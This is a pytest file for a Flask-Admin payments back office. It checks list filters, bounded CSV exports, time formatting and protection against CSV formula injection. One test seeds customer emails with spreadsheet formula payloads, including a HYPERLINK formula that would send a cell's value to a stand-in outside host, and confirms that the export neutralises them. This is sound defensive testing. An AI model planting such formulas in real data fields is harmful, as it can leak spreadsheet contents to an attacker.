"""Lists people can work with: filters by date, status, provider, amount and the
customer's email, Flask-Admin's CSV export of the filtered list (bounded), times in
one readable form."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from flask import Flask
from flask.testing import FlaskClient

from blueprints.admin.base import EXPORT_MAX_ROWS, ReadOnlyView, spreadsheet_safe
from extensions import db
from models import PaymentStatus
from tests.factories import make_customer, make_order, make_payment, make_refund


def _payments(app: Flask) -> tuple[int, int]:
    """(the one of anna@example.com, succeeded; another customer's, failed)."""
    with app.app_context():
        anna = make_payment(make_order(make_customer("anna@example.com"), price_minor=1234))
        anna.status = PaymentStatus.SUCCEEDED
        other = make_payment(make_order(make_customer("bob@example.com")))
        other.status = PaymentStatus.FAILED
        db.session.commit()
        return anna.id, other.id


def _ids(text: str) -> list[str]:
    return [row["Id"] for row in csv.DictReader(io.StringIO(text))]


def test_a_filtered_payments_list_exports_just_those_payments(
    app: Flask, admin_client: FlaskClient
) -> None:
    anna, other = _payments(app)
    query = "flt1_customer_email_equals=anna%40example.com&flt2_status_equals=succeeded"
    page = admin_client.get(f"/admin/admin_payments/?{query}").get_data(as_text=True)
    assert f"/admin/admin_payments/details/?id={anna}" in page
    assert f"/admin/admin_payments/details/?id={other}" not in page
    exported = admin_client.get(f"/admin/admin_payments/export/csv/?{query}")
    assert exported.status_code == 200 and "text/csv" in exported.headers["Content-Type"]
    text = exported.get_data(as_text=True)
    assert _ids(text) == [str(anna)]
    [row] = list(csv.DictReader(io.StringIO(text)))
    # What an accountant sums and sorts: a decimal number, its currency, an email, ISO dates
    assert row["Amount"] == "12.34" and row["Currency"] == "EUR" and row["Status"] == "succeeded"
    assert row["Customer email"] == "anna@example.com" and row["Customer id"].isdigit(), row
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", row["Created"])
    by_amount = admin_client.get("/admin/admin_payments/export/csv/?flt1_amount_greater_than=1200")
    assert _ids(by_amount.get_data(as_text=True)) == [str(anna)]


def test_times_read_to_the_second_and_exports_are_bounded(
    app: Flask, admin_client: FlaskClient
) -> None:
    _payments(app)
    page = admin_client.get("/admin/admin_payments/").get_data(as_text=True)
    assert re.search(r"\d\d:\d\d:\d\d UTC", page) and not re.search(r"\d\d:\d\d:\d\d\.\d{6}", page)
    assert ReadOnlyView.export_max_rows == EXPORT_MAX_ROWS <= 10_000


def test_every_records_list_exports(app: Flask, admin_client: FlaskClient, sandbox: Any) -> None:
    _payments(app)
    for name in ("payments", "orders", "processed_webhooks", "refunds", "disputes", "customers"):
        response = admin_client.get(f"/admin/admin_{name}/export/csv/")
        assert response.status_code == 200, name
        assert response.get_data(as_text=True).startswith("Id,"), name  # streamed: read it all


def test_refunds_filter_by_the_customers_email(app: Flask, admin_client: FlaskClient) -> None:
    """Through the payment, and through the order for a wallet-paid order (no payment)."""
    with app.app_context():
        customer = make_customer("anna@example.com")
        by_card = make_refund(make_payment(make_order(customer)))
        from_wallet = make_refund(make_payment(make_order(customer)))
        from_wallet.payment_id, from_wallet.provider = None, "wallet"
        make_refund(make_payment(make_order(make_customer("bob@example.com"))))
        db.session.commit()
        anna_ids = sorted([str(by_card.id), str(from_wallet.id)])
    query = "flt1_customer_email_equals=Anna%40example.com"
    exported = admin_client.get(f"/admin/admin_refunds/export/csv/?{query}")
    assert sorted(_ids(exported.get_data(as_text=True))) == anna_ids


def test_exported_text_a_customer_wrote_opens_as_text_not_as_a_formula(
    app: Flask, admin_client: FlaskClient
) -> None:
    """OWASP's CSV injection: a cell a spreadsheet would run starts with a `'`."""
    formulas = [
        '=HYPERLINK("http://x.example/?"&A1)@x.it',
        "+1+1@x.it",
        "-2+3@x.it",
        "@SUM(1)@x.it",
    ]
    with app.app_context():
        for email in [*formulas, "\tcmd@x.it", "plain@example.com"]:
            make_customer(email)
        db.session.commit()
    exported = admin_client.get("/admin/admin_customers/export/csv/")
    emails = {row["Email"] for row in csv.DictReader(io.StringIO(exported.get_data(as_text=True)))}
    assert emails == {*("'" + f for f in formulas), "'\tcmd@x.it", "plain@example.com"}


def test_numbers_stay_numbers_and_only_formula_starts_are_neutralised() -> None:
    assert [spreadsheet_safe(v) for v in ("-12", "+3.50", 7, "=1", "\r=1", "a=1")] == [
        "-12",
        "+3.50",
        7,
        "'=1",
        "'\r=1",
        "a=1",
    ]
